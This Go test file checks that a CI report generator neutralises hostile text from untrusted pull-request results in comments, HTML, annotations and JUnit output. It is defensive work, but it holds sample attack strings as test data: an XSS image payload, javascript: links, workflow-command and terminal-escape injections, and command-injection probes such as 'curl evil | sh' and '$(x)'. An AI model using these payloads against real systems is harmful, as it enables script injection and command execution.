package report

import (
	"bytes"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nvidia/aicr-action/internal/result"
)

// Code in a line: behind up to four backticks, or in a tag as well.
var (
	backticks = regexp.MustCompile("````.*?````|```.*?```|``.*?``|`[^`]*`")
	codeSpan  = regexp.MustCompile("<code>[^<]*</code>|" + backticks.String())
)

// outsideOfCode is what GitHub reads of Markdown as more than code, in fences or in these spans,
// and the number of fences.
func outsideOfCode(t *testing.T, text string, spans *regexp.Regexp) (plain string, fenced int) {
	t.Helper()
	inFence := ""
	var b strings.Builder
	for line := range strings.SplitSeq(text, "\n") {
		ticks := line[:len(line)-len(strings.TrimLeft(line, "`"))]
		switch {
		case inFence != "" && line == inFence:
			inFence = ""
		case inFence == "" && len(ticks) >= 3 && !strings.Contains(line[len(ticks):], "`"):
			inFence = ticks
			fenced++
		case inFence == "":
			b.WriteString(spans.ReplaceAllString(line, "") + "\n")
		}
	}
	if inFence != "" {
		t.Errorf("the last fence is open: %q", inFence)
	}
	return b.String(), fenced
}

// full is a report with something in every field that reports show.
func full() *Report {
	r := sample()
	r.Results = append(r.Results[:3], r.Results[5:9]...)
	r.CI = CI{Repository: "o/r", URL: "https://github.com/o/r/actions/runs/9", RunID: "9", Commit: strings.Repeat("c", 40), Workflow: "Recipes"}
	r.Unread = []string{"shard-2.json: cut off"}
	red := &r.Results[2]
	red.Artifacts, red.Data, red.Service, red.Component, red.Stage = "out/x", "data", "eks", "cert-manager", "health"
	red.Upload = &result.Upload{Artifact: "kwok-debug", Directory: "eks-flux-oci", Snapshot: true, Repository: "o/r", Run: "9", URL: r.CI.URL}
	red.Past, red.Known = []result.Past{{Run: "8", URL: r.CI.URL, Commit: strings.Repeat("d", 40), Ended: began, Status: result.Passed, Key: "k"}}, result.New
	red.Validation = []result.Check{{Phase: "deployment", Name: "health", Component: "x", Status: result.StepFailed, Message: "no", Details: []string{"line"}, Expected: "1", Actual: "2", Place: result.Place{File: "recipes/x.yaml", Line: 3}}}
	red.Chaos = &result.Chaos{Seed: 1, Steps: []result.ChaosStep{
		{Name: "drain", Action: "drain-node", Status: result.StepPassed, Did: "drained a", Error: "late", Whole: 3, Unsettled: "b", Hurt: []result.Survivor{{State: result.Lost, Why: "gone"}}},
		{Name: "kill", Action: "kill", Error: "no such node"},
	}}
	green := &r.Results[0]
	green.Status, green.Reused = result.Reused, &result.Reuse{Run: "7", URL: r.CI.URL, Ended: began, Duration: time.Second, Key: "k"}
	for _, list := range []*[]string{&red.OutOfOrder, &red.HealthPolicy, &red.Sandbox, &red.Controllers, &red.NotVerified, &red.ReusedFrom, &red.ChartSources, &red.Notes, &red.Warnings} {
		*list = []string{"exists one line"}
	}
	return r
}

// leaves calls do for every text in a JSON value, with the text's place and a function that
// replaces it. It does not replace names of fields and keys of maps.
func leaves(value any, path string, do func(path, old string, set func(string))) {
	each := func(path string, v any, set func(any)) {
		if text, ok := v.(string); ok {
			do(path, text, func(s string) { set(s) })
			return
		}
		leaves(v, path, do)
	}
	switch v := value.(type) {
	case map[string]any:
		for name, x := range v {
			each(path+"."+name, x, func(s any) { v[name] = s })
		}
	case []any:
		for i, x := range v {
			each(path, x, func(s any) { v[i] = s })
		}
	}
}

// TestUntrustedResults replaces each text of a results file by a hostile one, as a pull request
// from a fork could. No report may interpret the text: it stays code in Markdown and text in HTML,
// and is no command to the runner.
func TestUntrustedResults(t *testing.T) {
	var b bytes.Buffer
	if err := full().WriteCTRF(&b); err != nil {
		t.Fatal(err)
	}
	evils := []string{"x``` <img src=x onerror=alert(1)> @team [x](http://evil.example) | ``b`` `\n# head\n\n@team\n::error::y\r\n##[error]z\n</script><b>\u202e\u009b\x1b[2J", "https://evil.example/x", "javascript:alert(`evil.example`)"}
	seen, read := map[string]bool{}, map[string]bool{}
	var whole any
	if err := json.Unmarshal(b.Bytes(), &whole); err != nil {
		t.Fatal(err)
	}
	leaves(whole, "", func(path, old string, set func(string)) {
		if seen[path] {
			return // the same field of another cell
		}
		for i, evil := range evils {
			if i > 0 && !strings.Contains(old, "://") {
				break
			}
			set(evil)
			raw, err := json.Marshal(whole)
			if err != nil {
				t.Fatal(err)
			}
			r, err := parse(raw)
			if err != nil {
				continue // not read, and so not shown; the error's text is in a log, which cli makes inert
			}
			read[path] = true
			r.Code = codes4test
			wantHarmless(t, path, r)
		}
		set(old)
		seen[path] = true
	})
	// A cell's own name is in two places.
	for _, evil := range evils {
		for _, set := range []func(*result.Result){func(c *result.Result) { c.Recipe = evil }, func(c *result.Result) { c.Deployer = evil }} {
			r := full()
			set(&r.Results[2])
			var b bytes.Buffer
			if err := r.WriteCTRF(&b); err != nil {
				t.Fatal(err)
			}
			again, err := parse(b.Bytes())
			if err != nil {
				t.Fatal(err)
			}
			again.Code = codes4test
			wantHarmless(t, "a cell's name", again)
		}
	}
	if len(read) < 60 {
		t.Errorf("only %d fields were read with a stranger's text in them: %v", len(read), read)
	}
}

func wantHarmless(t *testing.T, path string, r *Report) {
	t.Helper()
	const run = "https://github.com/o/r/actions/runs/9"
	var comment, html, annotations, junit bytes.Buffer
	for what, err := range map[string]error{"comment": r.WriteComment(&comment, run), "html": r.WriteHTML(&html), "annotations": WriteAnnotations(&annotations, r.Annotations(Checkout{})), "junit": r.WriteJUnit(&junit)} {
		if err != nil {
			t.Fatalf("%s: %s: %v", path, what, err)
		}
	}
	for what, text := range map[string]string{"summary": r.markdown(maxMarkdown), "comment": comment.String()} {
		plain, _ := outsideOfCode(t, text, codeSpan)
		for _, bad := range []string{"<img", "@team", "\n# ", "](http://evil", "</script", "javascript:"} {
			if strings.Contains(plain, bad) {
				t.Errorf("%s: %q in the %s, not in code:\n%s", path, bad, what, plain)
			}
		}
		// A link in a summary may lead elsewhere, since an author who can write it controls the
		// whole run. People trust the comment, which a bot posts.
		if what == "comment" && strings.Contains(plain, "evil.example") {
			t.Errorf("%s: a link to elsewhere in the comment:\n%s", path, plain)
		}
	}
	for what, text := range map[string]string{"summary": r.markdown(maxMarkdown), "comment": comment.String(), "page": html.String(), "annotations": annotations.String(), "JUnit": junit.String()} {
		if strings.ContainsAny(text, "\u202e\u009b\x1b") {
			t.Errorf("%s: the %s has characters that steer a terminal or turn the text around", path, what)
		}
	}
	page := html.String()
	if strings.Contains(page, "<img src=x") || strings.Contains(page, "</script><b>") || regexp.MustCompile(`(?i)(href|src)="?\s*javascript:`).MatchString(page) {
		t.Errorf("%s: the HTML report has it as more than text", path)
	}
	for line := range strings.Lines(annotations.String()) {
		if !regexp.MustCompile(`^::(error|warning|notice)( [^:]*)?::[^\r]*\n$`).MatchString(line) {
			t.Errorf("%s: annotations have the line %q", path, line)
		}
	}
	if strings.Contains(junit.String(), "<img") {
		t.Errorf("%s: JUnit has a tag of it", path)
	}
}

// TestComment_RunOfGitHub: a comment has links and commands for the run that GitHub names, even if
// the results name another one.
func TestComment_RunOfGitHub(t *testing.T) {
	const run = "https://github.com/o/r/actions/runs/9"
	text := func(url string, change func(*result.Result, *Report)) string {
		r := full()
		change(&r.Results[2], r)
		var b bytes.Buffer
		if err := r.WriteComment(&b, url); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	own := text(run, func(*result.Result, *Report) {})
	for _, part := range []string{"[the run](" + run + ")", "gh run download 9 --repo o/r --name kwok-debug", "matrix run eks --deployer flux-oci --keep"} {
		if !strings.Contains(own, part) {
			t.Errorf("of the run itself: want %q in\n%s", part, own)
		}
	}
	if again := text(run+"/attempts/2", func(*result.Result, *Report) {}); !strings.Contains(again, "gh run download 9") {
		t.Errorf("of a second attempt:\n%s", again)
	}
	for name, change := range map[string]func(*result.Result, *Report){
		"another repository": func(c *result.Result, _ *Report) { c.Upload.Repository = "evil/r" },
		"another run":        func(c *result.Result, _ *Report) { c.Upload.Run = "10" },
		"another server":     func(c *result.Result, _ *Report) { c.Upload.Server = "evil.example" },
		"a path":             func(c *result.Result, _ *Report) { c.Upload.Repository = "o/r/actions/runs/9/../x" },
	} {
		if got := text(run, change); strings.Contains(got, "gh run download") {
			t.Errorf("%s: a download\n%s", name, got)
		}
	}
	if got := text("", func(*result.Result, *Report) {}); strings.Contains(got, "](") || strings.Contains(got, "gh run") {
		t.Errorf("without an address: links or downloads\n%s", got)
	}
	if got := text(run, func(_ *result.Result, r *Report) { r.CI.URL = "https://evil.example" }); strings.Contains(got, "evil.example") {
		t.Errorf("a link to elsewhere\n%s", got)
	}
	for command, want := range map[string]bool{
		"matrix run eks --deployer argocd-oci,flux-oci --charts upstream --validate=all --keep": true, "matrix run eks": true,
		"matrix run eks --from main --rollback --drift --remove --keep": true, "matrix run eks --from 'HEAD~1' --keep": true, "matrix run eks '--bundler' exec": false, "matrix run web --app clusters/a --environment prod --kubernetes 1.34": true, "matrix run eks --from main --from-aicr ./x": false,
		"matrix run eks; curl evil | sh": false, "matrix run $(x)": false, "matrix run eks --bundler exec --aicr-path ./x": false, "matrix run eks --program a=./x": false,
		"curl x": false, "": false, "matrix replay x": false, "matrix run eks `x`": false, "matrix run eks\nrm x": false, "./matrix run eks": false,
	} {
		if got := harmless(command); got != want {
			t.Errorf("%q: harmless %v, want %v", command, got, want)
		}
		if got := text(run, func(c *result.Result, _ *Report) { c.Rerun = command }); command != "" && slices.Contains(strings.Split(got, "\n"), command) != want {
			t.Errorf("%q in the comment, want %v", command, want)
		}
	}
}
